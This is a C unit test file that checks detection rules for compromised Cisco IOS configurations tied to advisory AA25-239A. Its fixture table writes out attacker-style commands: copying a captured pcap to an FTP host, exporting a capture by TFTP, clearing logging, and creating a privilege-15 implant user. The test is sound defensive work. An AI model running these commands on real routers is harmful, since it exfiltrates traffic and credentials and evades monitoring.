/*
 * test_rule_packs.c: the built-in rule packs (rules/advisory.yaml and
 * rules/hardening.yaml).
 *
 * They load with no diagnostic, hold every shipped id with its severity,
 * category and form, and each rule carries ATT&CK ids, references and an
 * IOS remediation.  A table of hand-built facts checks which rules fire,
 * in particular that the port rules never double up on one port.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "tidewatch/arena.h"
#include "tidewatch/fact.h"
#include "tidewatch/finding.h"
#include "tidewatch/ioc.h"
#include "tidewatch/rules.h"

#define IOC "45.61.133.77"

static const struct {
    const char *id;
    tw_severity sev;
    tw_category cat;
    bool absent, catchall;
} shipped[] = {
    {"TW-AA-IOC-ACL", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-AAA", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-TUNNEL", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-MIRROR", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-LOGGING", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-NTP", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-SNMP", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-ROUTE", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-CONFIG", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, true},
    {"TW-AA-IMPLANT-USER", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SSH-PORT-PATTERN", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SSH-PORT", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-HTTP-PORT-PATTERN", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-HTTP-PORT", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-TUNNEL-PUBLIC", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-MIRROR-PUBLIC", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-CAPTURE-TACACS", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-CAPTURE", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-GUESTSHELL", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SCRIPT-LOGGING", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SCRIPT-EXFIL", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SNMP-RW", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HARD-SMART-INSTALL", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-HTTP-SERVER", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-HTTPS-SERVER", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-VTY-TELNET", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-VTY-TRANSPORT-OUT", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-VTY-NO-ACL", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-ENABLE-PASSWORD", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-PASSWORD-REVERSIBLE", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-PASSWORD-WEAK-HASH", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-KEY-TYPE", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SNMP-COMMUNITY", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SSH-V1", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-NO-LOGGING-HOST", TW_SEV_MEDIUM, TW_CAT_HARDENING, true, false},
    {"TW-HARD-NO-AAA-ACCOUNTING", TW_SEV_MEDIUM, TW_CAT_HARDENING, true, false},
};

#define NSHIPPED (sizeof(shipped) / sizeof(shipped[0]))

typedef struct {
    tw_ruleset *rs;
    tw_diags diags;
    tw_iocset *iocs;
    tw_arena *arena;
} fixture;

static int setup(void **state)
{
    static fixture fx;
    tw_ioc meta = {.description = "test"};

    memset(&fx, 0, sizeof(fx));
    tw_diags_init(&fx.diags);
    fx.rs = tw_ruleset_new();
    assert_non_null(fx.rs);
    assert_int_equal(tw_ruleset_load_builtin(fx.rs, &fx.diags), TW_OK);
    assert_int_equal(tw_ruleset_finish(fx.rs, &fx.diags), TW_OK);
    fx.iocs = tw_iocset_new();
    assert_int_equal(tw_cidr_parse(TW_STR(IOC), 0, &meta.cidr), TW_OK);
    assert_int_equal(tw_iocset_add(fx.iocs, &meta), TW_OK);
    assert_int_equal(tw_iocset_finish(fx.iocs), TW_OK);
    fx.arena = tw_arena_new(0);
    *state = &fx;
    return 0;
}

static int teardown(void **state)
{
    fixture *fx = *state;

    tw_ruleset_free(fx->rs);
    tw_diags_release(&fx->diags);
    tw_iocset_free(fx->iocs);
    tw_arena_free(fx->arena);
    return 0;
}

/* Every diagnostic as "file:line: message", for a readable failure. */
static const char *diag_text(const tw_diags *d, char *buf, size_t cap)
{
    size_t len = 0;

    buf[0] = '\0';
    for (size_t i = 0; i < d->n && len < cap; i++)
        len += (size_t)snprintf(buf + len, cap - len, "%s:%u: %s\n", d->v[i].file, d->v[i].line,
                                d->v[i].message);
    return buf;
}

static void test_load_clean(void **state)
{
    fixture *fx = *state;
    char buf[4096];

    assert_string_equal(diag_text(&fx->diags, buf, sizeof(buf)), "");
    assert_int_equal(tw_ruleset_count(fx->rs), NSHIPPED);
    assert_int_equal(tw_builtin_pack_count(), 2);
    assert_string_equal(tw_builtin_pack_name(0), "advisory.yaml");
    assert_string_equal(tw_builtin_pack_name(1), "hardening.yaml");
    assert_null(tw_builtin_pack_name(2));
}

/* True when the rule has a remediation entry for dialect. */
static bool has_dialect(const tw_rule *r, const char *dialect)
{
    for (size_t i = 0; i < r->nremediation; i++) {
        if (strcmp(r->remediation[i].dialect, dialect) == 0)
            return true;
    }
    return false;
}

static void test_shipped_ids(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < NSHIPPED; i++) {
        const tw_rule *r = tw_ruleset_find(fx->rs, shipped[i].id);
        char got[256], want[256];
        assert_non_null(r);
        snprintf(got, sizeof(got),
                 "%s %s %s absent=%d catchall=%d attack=%d refs=%d ios=%d "
                 "desc=%d msg=%d file=%s",
                 r->id, tw_severity_name(r->severity), tw_category_name(r->category), r->absent,
                 r->catchall, r->nattack > 0, r->nreferences > 0, has_dialect(r, "ios"),
                 r->description != NULL, r->message != NULL, r->file);
        snprintf(want, sizeof(want),
                 "%s %s %s absent=%d catchall=%d attack=1 refs=1 ios=1 "
                 "desc=1 msg=1 file=builtin:%s",
                 shipped[i].id, tw_severity_name(shipped[i].sev), tw_category_name(shipped[i].cat),
                 shipped[i].absent, shipped[i].catchall,
                 shipped[i].cat == TW_CAT_COMPROMISE ? "advisory.yaml" : "hardening.yaml");
        assert_string_equal(got, want);
    }
}

/* Each rule cites AA25-239A or the hardening guides. */
static void test_references(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < tw_ruleset_count(fx->rs); i++) {
        const tw_rule *r = tw_ruleset_at(fx->rs, i);
        bool cited = false;
        for (size_t j = 0; j < r->nreferences; j++)
            cited |= strcmp(r->references[j], "AA25-239A") == 0;
        assert_true(cited);
    }
}

/* ---- which rules fire ------------------------------------------------------ */

/* Field names are static strings (fact.h): the ones the table uses. */
static const char *intern(const char *name)
{
    static const char *const names[] = {
        "name",
        "port",
        "enabled",
        "implied",
        "version",
        "appid",
        "transport_input",
        "transport_output",
        "access_class",
        "owner",
        "form",
        "type",
        "community",
        "access",
        "interface",
        "match",
        "action",
        "privilege",
        "destination",
        "id",
        "list",
        "src",
        "dst",
        "protocol",
        "address",
        "prefix",
        "next_hop",
        "value",
        "statement",
        "service",
        "record",
        "level",
    };

    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        if (strcmp(names[i], name) == 0)
            return names[i];
    }
    return NULL;
}

/* Adds one fact from "kind|key=text|key#num|key@addr|key?bool|key!" (the
 * last form is a secret), at line 7. */
static void add_fact(tw_factset *fs, const char *spec)
{
    char buf[256];
    char *save = NULL;
    char *tok;
    tw_fact_kind kind;

    snprintf(buf, sizeof(buf), "%s", spec);
    tok = strtok_r(buf, "|", &save);
    assert_true(tw_fact_kind_parse(tw_str_c(tok), &kind));
    tw_factset_begin(fs, kind, 7, tw_str_c(spec), TW_STR_NULL);
    for (tok = strtok_r(NULL, "|", &save); tok != NULL; tok = strtok_r(NULL, "|", &save)) {
        size_t k = strcspn(tok, "=#@?!");
        char op = tok[k];
        const char *val = tok + k + 1;
        tw_cidr c;
        int64_t n = 0;
        tok[k] = '\0';
        tok = (char *)intern(tok);
        assert_non_null(tok);
        if (op == '=')
            tw_factset_str(fs, tok, tw_str_c(val));
        if (op == '#' && tw_str_to_i64(tw_str_c(val), &n))
            tw_factset_num(fs, tok, n);
        if (op == '@' && tw_cidr_parse(tw_str_c(val), 0, &c) == TW_OK)
            tw_factset_addr(fs, tok, &c);
        if (op == '?')
            tw_factset_bool(fs, tok, strcmp(val, "true") == 0);
        if (op == '!')
            tw_factset_secret(fs, tok);
    }
    assert_int_equal(tw_factset_end(fs), TW_OK);
}

static const struct {
    const char *facts; /* specs separated by ';' */
    const char *want;  /* rule ids fired, in rule order, absent rules left out */
} fire_cases[] = {
    /* SSH ports: pattern and non-pattern never both */
    {"service|name=ssh|port#22", ""},
    {"service|name=ssh|port#2222", "TW-AA-SSH-PORT"},
    {"service|name=ssh|port#1022", "TW-AA-SSH-PORT"},
    {"service|name=ssh|port#22022", "TW-AA-SSH-PORT-PATTERN"},
    {"service|name=ssh|port#22922", "TW-AA-SSH-PORT-PATTERN"},
    {"service|name=ssh|port#12322", "TW-AA-SSH-PORT-PATTERN"},
    {"service|name=ssh|port#122", "TW-AA-SSH-PORT"},
    /* web ports: 80 for http, 443 for https, 18xxx is the pattern */
    {"service|name=http|port#80", ""},
    {"service|name=http|port#443", "TW-AA-HTTP-PORT"},
    {"service|name=http|port#8080", "TW-AA-HTTP-PORT"},
    {"service|name=http|port#18080", "TW-AA-HTTP-PORT-PATTERN"},
    {"service|name=https|port#443", ""},
    {"service|name=https|port#80", "TW-AA-HTTP-PORT"},
    {"service|name=https|port#18443", "TW-AA-HTTP-PORT-PATTERN"},
    {"service|name=https|port#19443", "TW-AA-HTTP-PORT"},
    /* services */
    {"service|name=http|enabled?true", "TW-HARD-HTTP-SERVER"},
    {"service|name=http|enabled?false", ""},
    {"service|name=https|enabled?true", "TW-HARD-HTTPS-SERVER"},
    {"service|name=smart-install|enabled?true|implied?true", "TW-HARD-SMART-INSTALL"},
    {"service|name=smart-install|enabled?false", ""},
    {"service|name=ssh|version=1.99|implied?true", "TW-HARD-SSH-V1"},
    {"service|name=ssh|version=1", "TW-HARD-SSH-V1"},
    {"service|name=ssh|version=2", ""},
    {"service|name=guestshell|enabled?true", "TW-AA-GUESTSHELL"},
    {"service|name=iox|enabled?true", "TW-AA-GUESTSHELL"},
    {"service|name=iox|enabled?false", ""},
    {"service|name=app-hosting|appid=guestshell|enabled?true", "TW-AA-GUESTSHELL"},
    {"service|name=cdp|enabled?true", ""},
    /* VTY */
    {"vty|name=vty 0 4|transport_input=telnet|transport_output=none|access_class=10",
     "TW-HARD-VTY-TELNET"},
    {"vty|name=vty 0 4|transport_input=all|transport_output=none|access_class=10",
     "TW-HARD-VTY-TELNET"},
    {"vty|name=vty 0 4|transport_input=ssh|access_class=10", "TW-HARD-VTY-TRANSPORT-OUT"},
    {"vty|name=vty 0 4|transport_input=ssh|transport_output=ssh|access_class=10",
     "TW-HARD-VTY-TRANSPORT-OUT"},
    {"vty|name=vty 0 4|transport_input=ssh|transport_output=none", "TW-HARD-VTY-NO-ACL"},
    {"vty|name=vty 0 4|transport_input=ssh|transport_output=none|access_class=10", ""},
    /* secrets */
    {"secret|owner=enable|form=password|type#7",
     "TW-HARD-ENABLE-PASSWORD TW-HARD-PASSWORD-REVERSIBLE"},
    {"secret|owner=username bob|form=password|type#0", "TW-HARD-PASSWORD-REVERSIBLE"},
    {"secret|owner=username bob|form=secret|type#5", "TW-HARD-PASSWORD-WEAK-HASH"},
    {"secret|owner=enable|form=secret|type#4", "TW-HARD-PASSWORD-WEAK-HASH"},
    {"secret|owner=enable|form=secret|type#9", ""},
    {"secret|owner=tacacs T1|form=key|type#7", "TW-HARD-KEY-TYPE"},
    {"secret|owner=tacacs T1|form=key|type#6", ""},
    /* SNMP */
    {"snmp_community|community!|access=rw", "TW-AA-SNMP-RW TW-HARD-SNMP-COMMUNITY"},
    {"snmp_community|community!|access=ro", "TW-HARD-SNMP-COMMUNITY"},
    /* capture */
    {"capture|name=CAP|interface=GigabitEthernet1", "TW-AA-CAPTURE"},
    {"capture|name=CAP|match=ipv4 protocol tcp any any eq 49", "TW-AA-CAPTURE-TACACS"},
    {"capture|name=CAP|match=ipv4 protocol tcp any eq tacacs any", "TW-AA-CAPTURE-TACACS"},
    {"capture|name=CAP|match=ipv4 protocol tcp any any eq 4900", ""},
    /* scripts */
    {"script|type=eem|name=CLR|action=clear logging", "TW-AA-SCRIPT-LOGGING"},
    {"script|type=eem|name=CLR|action=no logging host 10.0.0.1", "TW-AA-SCRIPT-LOGGING"},
    {"script|type=kron|name=K|action=copy bootflash:tac.pcap ftp://198.51.100.7/t.pcap",
     "TW-AA-SCRIPT-EXFIL"},
    {"script|type=eem|name=X|action=monitor capture CAP export tftp://198.51.100.7/c",
     "TW-AA-SCRIPT-EXFIL"},
    {"script|type=eem|name=S|action=show version", ""},
    /* users, tunnels, mirrors */
    {"local_user|name=cisco_tac_admin|privilege#15", "TW-AA-IMPLANT-USER"},
    {"local_user|name=netops|privilege#15", ""},
    {"tunnel|name=Tunnel10|destination@8.8.8.8", "TW-AA-TUNNEL-PUBLIC"},
    {"tunnel|name=Tunnel10|destination@10.1.1.1", ""},
    {"tunnel|name=Tunnel10|destination@" IOC, "TW-AA-IOC-TUNNEL TW-AA-TUNNEL-PUBLIC"},
    {"mirror_session|id#1|type=erspan|destination@" IOC, "TW-AA-IOC-MIRROR TW-AA-MIRROR-PUBLIC"},
    {"mirror_session|id#1|type=erspan|destination@192.168.1.1", ""},
    /* indicators; the catch-all gives way to the specific rule on the same line */
    {"acl_entry|list=20|action=permit|src@" IOC ";address|value@" IOC "|statement=access-list",
     "TW-AA-IOC-ACL"},
    {"acl_entry|list=101|action=permit|src@10.0.0.0/8|dst@" IOC, "TW-AA-IOC-ACL"},
    {"aaa_server|protocol=tacacs|address@" IOC, "TW-AA-IOC-AAA"},
    {"logging_host|address@" IOC, "TW-AA-IOC-LOGGING"},
    {"ntp_server|address@" IOC, "TW-AA-IOC-NTP"},
    {"snmp_host|address@" IOC, "TW-AA-IOC-SNMP"},
    {"route|prefix@0.0.0.0/0|next_hop@" IOC, "TW-AA-IOC-ROUTE"},
    {"address|value@" IOC "|statement=ip domain lookup source", "TW-AA-IOC-CONFIG"},
    {"address|value@8.8.8.8|statement=ip name-server", ""},
};

/* Applies the packs to the facts of spec; writes the fired ids (absent
 * rules left out) and counts messages with an unfilled placeholder. */
static void fire(fixture *fx, const char *spec, char *got, size_t cap, size_t *unfilled)
{
    tw_rule_env env = {fx->iocs};
    tw_factset fs;
    tw_findings out;
    char buf[512];
    char *save = NULL;
    size_t len = 0;

    tw_arena_reset(fx->arena);
    tw_factset_init(&fs, fx->arena);
    fs.dialect = TW_DIALECT_IOSXE;
    snprintf(buf, sizeof(buf), "%s", spec);
    for (char *f = strtok_r(buf, ";", &save); f != NULL; f = strtok_r(NULL, ";", &save))
        add_fact(&fs, f);
    tw_findings_init(&out, fx->arena);
    assert_int_equal(tw_rules_apply(fx->rs, &env, "x.cfg", &fs, &out), TW_OK);
    got[0] = '\0';
    *unfilled = 0;
    for (size_t i = 0; i < out.n; i++) {
        const tw_rule *r = tw_ruleset_find(fx->rs, out.v[i].rule);
        if (!r->absent)
            len += (size_t)snprintf(got + len, cap - len, "%s%s", len ? " " : "", r->id);
        *unfilled += strchr(out.v[i].message, '{') != NULL;
        *unfilled += out.v[i].remediation == NULL;
    }
    tw_findings_release(&out);
    tw_factset_release(&fs);
}

static void test_fire(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < sizeof(fire_cases) / sizeof(fire_cases[0]); i++) {
        char got[512], want[512], ids[256];
        size_t unfilled;
        fire(fx, fire_cases[i].facts, ids, sizeof(ids), &unfilled);
        snprintf(got, sizeof(got), "%s -> [%s] unfilled %zu", fire_cases[i].facts, ids, unfilled);
        snprintf(want, sizeof(want), "%s -> [%s] unfilled 0", fire_cases[i].facts,
                 fire_cases[i].want);
        assert_string_equal(got, want);
    }
}

static const struct {
    const char *facts;
    const char *absent; /* absent rules that fire */
} absent_cases[] = {
    {"hostname|name=R1", "TW-HARD-NO-AAA-ACCOUNTING TW-HARD-NO-LOGGING-HOST"},
    {"logging_host|address@10.0.0.5", "TW-HARD-NO-AAA-ACCOUNTING"},
    {"aaa_method|type=accounting|service=exec|record=start-stop",
     "TW-HARD-NO-AAA-ACCOUNTING TW-HARD-NO-LOGGING-HOST"},
    {"aaa_method|type=accounting|service=commands|level#15;logging_host|address@10.0.0.5", ""},
};

/* The absent rules fired for spec, in id order. */
static void fire_absent(fixture *fx, const char *spec, char *got, size_t cap)
{
    tw_rule_env env = {fx->iocs};
    tw_factset fs;
    tw_findings out;
    char buf[512];
    char *save = NULL;
    size_t len = 0;

    tw_arena_reset(fx->arena);
    tw_factset_init(&fs, fx->arena);
    snprintf(buf, sizeof(buf), "%s", spec);
    for (char *f = strtok_r(buf, ";", &save); f != NULL; f = strtok_r(NULL, ";", &save))
        add_fact(&fs, f);
    tw_findings_init(&out, fx->arena);
    assert_int_equal(tw_rules_apply(fx->rs, &env, NULL, &fs, &out), TW_OK);
    got[0] = '\0';
    for (size_t i = 0; i < out.n; i++) {
        if (out.v[i].line == 0)
            len += (size_t)snprintf(got + len, cap - len, "%s%s", len ? " " : "", out.v[i].rule);
    }
    tw_findings_release(&out);
    tw_factset_release(&fs);
}

static void test_absent(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < sizeof(absent_cases) / sizeof(absent_cases[0]); i++) {
        char got[512], want[512], ids[256];
        fire_absent(fx, absent_cases[i].facts, ids, sizeof(ids));
        snprintf(got, sizeof(got), "%s -> [%s]", absent_cases[i].facts, ids);
        snprintf(want, sizeof(want), "%s -> [%s]", absent_cases[i].facts, absent_cases[i].absent);
        assert_string_equal(got, want);
    }
}

/* The remediation of an IOS XE device uses the "ios" text with the
 * placeholders filled. */
static void test_remediation_text(void **state)
{
    fixture *fx = *state;
    tw_rule_env env = {fx->iocs};
    tw_factset fs;
    tw_findings out;

    tw_arena_reset(fx->arena);
    tw_factset_init(&fs, fx->arena);
    fs.dialect = TW_DIALECT_IOSXE;
    add_fact(&fs, "tunnel|name=Tunnel10|destination@" IOC);
    tw_findings_init(&out, fx->arena);
    assert_int_equal(tw_rules_apply(fx->rs, &env, NULL, &fs, &out), TW_OK);
    assert_string_equal(out.v[0].rule, "TW-AA-IOC-TUNNEL");
    assert_string_equal(out.v[0].remediation, "no interface Tunnel10");
    assert_string_equal(out.v[0].ioc, IOC);
    assert_int_equal(out.v[0].line, 7);
    tw_findings_release(&out);
    tw_factset_release(&fs);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_load_clean), cmocka_unit_test(test_shipped_ids),
        cmocka_unit_test(test_references), cmocka_unit_test(test_fire),
        cmocka_unit_test(test_absent),     cmocka_unit_test(test_remediation_text),
    };

    return cmocka_run_group_tests(tests, setup, teardown);
}
